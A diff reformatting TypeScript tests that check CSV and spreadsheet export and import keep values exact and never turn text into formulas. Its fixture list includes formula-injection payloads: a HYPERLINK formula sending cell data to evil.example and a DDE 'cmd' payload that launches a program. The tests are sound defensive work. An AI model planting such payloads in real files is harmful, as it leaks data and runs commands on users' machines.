@@ -7,7 +7,18 @@ import { SECOND, type Micros } from '../../src/base/time.ts'
 import { startCommandLineLab } from '../support/command-line.ts'
 import { startLab } from '../support/lab.ts'
 
-const TEXTS = ['=1+1', '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '+49 30 1234', '-5 °C, outside', '@SUM(A1:A9)', '\t=1', "'=1", '-3.5', 'plain']
+const TEXTS = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '+49 30 1234',
+  '-5 °C, outside',
+  '@SUM(A1:A9)',
+  '\t=1',
+  "'=1",
+  '-3.5',
+  'plain',
+]
 const NUMBERS = [-3.5, 1e-7, 21, -1e21]
 const START: Micros = Date.UTC(2026, 0, 1) * 1000
 
@@ -16,16 +27,28 @@ test('CSV of sequences is exact, whatever values begin with: the same texts and 
   const texts = await lab.sequence('/lab/texts', 2)
   const numbers = await lab.sequence('/lab/numbers')
   const copies = [await lab.sequence('/lab/texts copy', 2), await lab.sequence('/lab/numbers copy')]
-  for (const [sequence, values] of [[texts, TEXTS], [numbers, NUMBERS]] as const) {
+  for (const [sequence, values] of [
+    [texts, TEXTS],
+    [numbers, NUMBERS],
+  ] as const) {
     await lab.ctx.sequences.append(values.map((value, at) => ({ sequence: refOf(sequence), time: START + at * SECOND, value })))
   }
   for (const [at, sequence] of [texts, numbers].entries()) {
     const csv = (await lab.get(`/resources/lab/${sequence.name}?format=csv`)).text
     const rows = csv.split('\n').slice(1)
-    if (sequence === numbers) assert.deepEqual(rows.filter((row) => row !== '').map((row) => row.split(',')[1]), ['-3.5', '1e-7', '21', '-1e+21'], 'numbers are numbers')
+    if (sequence === numbers)
+      assert.deepEqual(
+        rows.filter((row) => row !== '').map((row) => row.split(',')[1]),
+        ['-3.5', '1e-7', '21', '-1e+21'],
+        'numbers are numbers',
+      )
     else assert.match(csv, /,=1\+1\n.*,@SUM\(A1:A9\)\n/s)
     const body = `path,timestamp,value\n${rows.map((row) => (row === '' ? '' : `/lab/${sequence.name} copy,${row}`)).join('\n')}`
-    const sent = await fetch(`${lab.url}/api/v1/sequences/values`, { method: 'POST', body, headers: { 'content-type': 'text/csv', authorization: `Bearer ${lab.key}` } })
+    const sent = await fetch(`${lab.url}/api/v1/sequences/values`, {
+      method: 'POST',
+      body,
+      headers: { 'content-type': 'text/csv', authorization: `Bearer ${lab.key}` },
+    })
     assert.equal(sent.status, 200)
     const copy = copies[at]
     assert.ok(copy)
@@ -41,7 +64,10 @@ test('the command exports and imports them unchanged', async (t) => {
   await lab.run('seq', 'export', '/test-org/c/texts', 'texts.csv')
   assert.deepEqual(await lab.json('seq', 'import', '/test-org/c/copy', 'texts.csv'), { stored: TEXTS.length, repeated: 0, refused: 0 })
   const stored = (await lab.json('seq', 'get', '/test-org/c/copy', '-n', '100')) as { value: string }[]
-  assert.deepEqual(stored.map(({ value }) => value), TEXTS)
+  assert.deepEqual(
+    stored.map(({ value }) => value),
+    TEXTS,
+  )
   assert.deepEqual(stored, await lab.json('seq', 'get', '/test-org/c/texts', '-n', '100'))
 })
 
@@ -54,6 +80,12 @@ test('a spreadsheet made of such a CSV has text cells of text and number cells o
   const reply = await lab.get('/resources/lab/texts.csv', { convert_to: 'xlsx', download: 1 })
   const sheet = spreadsheets.read(reply.bytes, { type: 'array' }).Sheets['data']
   const cells = [...TEXTS, '12.5'].map((_, at) => sheet?.[`B${at + 2}`] as { t: string; v: unknown; f?: string } | undefined)
-  assert.deepEqual(cells.map((cell) => cell?.f), cells.map(() => undefined))
-  assert.deepEqual(cells.map((cell) => [cell?.t, cell?.v]), [...TEXTS.map((text) => (text === '-3.5' ? ['n', -3.5] : ['s', text])), ['n', 12.5]])
+  assert.deepEqual(
+    cells.map((cell) => cell?.f),
+    cells.map(() => undefined),
+  )
+  assert.deepEqual(
+    cells.map((cell) => [cell?.t, cell?.v]),
+    [...TEXTS.map((text) => (text === '-3.5' ? ['n', -3.5] : ['s', text])), ['n', 12.5]],
+  )
 })
